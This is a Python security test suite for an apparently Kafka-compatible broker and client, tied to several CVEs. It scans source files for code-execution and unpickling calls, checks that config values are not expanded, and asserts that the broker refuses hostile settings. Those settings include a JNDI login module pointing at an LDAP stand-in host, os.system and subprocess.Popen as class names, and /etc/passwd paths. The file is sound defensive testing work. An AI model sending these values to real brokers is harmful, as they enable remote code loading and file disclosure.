"""C7: no text that somebody else may set becomes code, a file to read, or a host to ask.

CVE-2023-25194, CVE-2025-27817, -27818, -27819: login modules and URLs named in configurations.
"""

import ast
import os
from pathlib import Path

import pytest

from kcli.client.config import AdminConfig, ConsumerConfig
from kserver.config.broker import BrokerConfig
from kserver.errors import ErrorCode
from kserver.wire.api_key import ApiKey
from tests.support.wire_client import WireClient

ROOT = Path(__file__).parents[2]
SOURCES = sorted([*(ROOT / "kserver").rglob("*.py"), *(ROOT / "kcli").rglob("*.py")])
BROKER, SET = 4, 0

CODE = {"eval", "exec", "compile", "__import__"}
UNPICKLERS = {"pickle", "marshal", "shelve", "dill", "jsonpickle", "imp"}
NAMED_IN_CODE = {
    "kcli/client/__init__.py",  # its own modules, when they are first used
    "kcli/client/class_loader.py",  # what the user's own settings name
    "kcli/command/command.py",
    "kcli/commands/perf_test.py",  # one command of several
    "kcli/main.py",
    "kcli/servers/server_processes.py",  # what its children need, before they are forked
    "kcli/segments/control_records.py",  # a version's schema: of its name only the number is data
    "kcli/shell_completion/completion.py",
    "kcli/spark/jobs/__init__.py",  # the jobs of a table
    "kcli/spark/jobs/functions.py",  # what --py and --fix name, which is to run
    "kcli/testing/__init__.py",
}
"""Who imports by a name that is not written there."""
BETWEEN_OWN_PROCESSES = {"kserver/world/worker_process.py"}
"""Who may pickle: over pipes to a child of its own."""


def calls(path):
    for node in ast.walk(ast.parse(path.read_text())):
        if isinstance(node, ast.Call):
            yield ast.unparse(node.func), node


@pytest.mark.parametrize("path", SOURCES, ids=lambda path: str(path.relative_to(ROOT)))
def test_no_text_becomes_code(path):
    tree = ast.parse(path.read_text())
    may_pickle = str(path.relative_to(ROOT)) in BETWEEN_OWN_PROCESSES
    for node in ast.walk(tree):
        if isinstance(node, ast.Import | ast.ImportFrom) and not may_pickle:
            names = {alias.name.split(".")[0] for alias in node.names}
            assert not (names | {getattr(node, "module", None)}) & UNPICKLERS
    for name, call in calls(path):
        assert name not in CODE
        assert not name.endswith((".system", ".popen"))
        assert name not in ("yaml.load", "yaml.unsafe_load")
        shell = {word.arg: word.value for word in call.keywords}.get("shell")
        assert shell is None
        if name in ("import_module", "importlib.import_module"):
            constant = isinstance(call.args[0], ast.Constant)
            assert constant or str(path.relative_to(ROOT)) in NAMED_IN_CODE


EXPANSIONS = (
    "${env:HOME}",
    "${file:/etc/hostname:x}",
    "$HOME",
    "~",
    "file:///etc/hostname",
    "%(x)s",
)


@pytest.mark.parametrize("text", EXPANSIONS)
def test_a_value_is_what_it_says(text):
    assert AdminConfig.of({"client.id": text}).client_id == text
    assert ConsumerConfig.of({"group.id": text}).group_id == text
    assert BrokerConfig.load(None, [f"broker.rack={text}"]).broker_rack == text


def test_a_file_that_names_another_is_not_followed(tmp_path):
    secret = tmp_path / "secret"
    secret.write_text("hunter2")
    file = tmp_path / "client.properties"
    file.write_text(
        "config.providers=file\n"
        "config.providers.file.class=org.apache.kafka.common.config.provider.FileConfigProvider\n"
        f"client.id=${{file:{secret}:x}}\n"
    )
    config = BrokerConfig.load(str(file), ["broker.rack=${file:" + str(secret) + ":x}"])
    assert "hunter2" not in repr(config)


HARMFUL = {
    "sasl.jaas.config": "com.sun.security.auth.module.JndiLoginModule required"
    ' user.provider.url="ldap://192.0.2.1:1389/x" useFirstPass="true";',
    "sasl.login.callback.handler.class": "os.system",
    "principal.builder.class": "subprocess.Popen",
    "metric.reporters": "builtins.exec",
    "sasl.oauthbearer.token.endpoint.url": "http://192.0.2.1/token",
    "sasl.oauthbearer.jwks.endpoint.url": "file:///etc/passwd",
    "ssl.keystore.location": "/etc/passwd",
    "ssl.engine.factory.class": "os.system",
    "log.dirs": "/tmp/elsewhere",
    "zookeeper.connect": "192.0.2.1:2181",
    "config.providers": "vaults",
}


@pytest.mark.parametrize("key", HARMFUL)
@pytest.mark.parametrize("prefix", ["", "listener.name.plaintext."])
@pytest.mark.parametrize("broker_id", ["", "0", "1001"])
def test_no_client_sets_what_names_code_a_file_or_a_host(broker, key, prefix, broker_id):
    if prefix and not key.startswith(("sasl", "ssl", "principal")):
        pytest.skip("no listener has that")
    value = HARMFUL[key]
    resource = {
        "resource_type": BROKER,
        "resource_name": broker_id,
        "configs": [{"name": prefix + key, "config_operation": SET, "value": value}],
    }
    before = set(os.listdir(broker.directory))
    with WireClient(broker.address) as client:
        answer = client.call(ApiKey.INCREMENTAL_ALTER_CONFIGS, 1, resources=[resource])
    (refused,) = answer.responses
    assert refused.error_code in {ErrorCode.invalid_config, ErrorCode.invalid_request}
    assert value not in (refused.error_message or "")
    assert value not in "".join(broker.output)
    assert set(os.listdir(broker.directory)) == before
